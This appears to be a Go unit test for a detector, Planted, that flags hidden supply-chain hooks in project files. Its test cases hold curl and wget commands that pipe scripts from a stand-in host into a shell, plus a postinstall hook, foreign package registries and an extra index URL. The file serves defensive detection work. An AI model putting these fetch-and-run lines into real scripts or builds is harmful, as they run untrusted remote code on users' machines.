package places

import "testing"

func TestPlanted(t *testing.T) {
	for _, tc := range []struct{ name, text, want string }{
		{"/x/run.sh", "#!/bin/sh\necho hi\n(wget -qO- https://x.example/i || true) | bash >/dev/null &\n", "wget -qO- https://x.example/i || true) | bash"},
		{"/x/Makefile", "_ := $(shell curl -fs https://x.example/m | sh)\n", "curl -fs https://x.example/m | sh"},
		{"/x/a.md", `bash -c "$(curl -fsSL https://x.example/i)"`, `bash -c "$(curl -fsSL https://x.example/i)"`},
		{"/x/data.json", `{"scripts":{"postinstall":"node x.js"}}`, `"postinstall":"node x.js`},
		{"/x/other.md", `{"scripts":{"postinstall":"node x.js"}}`, ""},
		{"/x/package.json", `{"scripts":{"test":"node --test"}}`, ""},
		{"/x/package.json", `{"publishConfig":{"registry":"https://registry.x.example/","access":"public"}}`, `registry":"https://registry.x.example/`},
		{"/x/package.json", `{"overrides":{"semver":"https://registry.x.example/semver-7.7.1.tgz"}}`, `"semver":"https://registry.x.example/semver-7.7.1.tgz`},
		{"/x/requirements.txt", "--extra-index-url https://x.example/simple\nflask\n", "extra-index-url https://x.example/simple"},
		{"/x/package.json", `{"homepage":"https://x.example/","repository":"https://github.com/a/b","publishConfig":{"registry":"https://registry.npmjs.org/"}}`, ""},
		{"/x/notes.json", `{"registry":"https://registry.x.example/"}`, ""},
		{"/x/run.sh", "curl -o out.json https://x.example/data\ncat out.json | shasum\n", ""},
	} {
		if got := Planted(tc.name, []byte(tc.text)); got != tc.want {
			t.Errorf("%s %q: %q, want %q", tc.name, tc.text, got, tc.want)
		}
	}
}
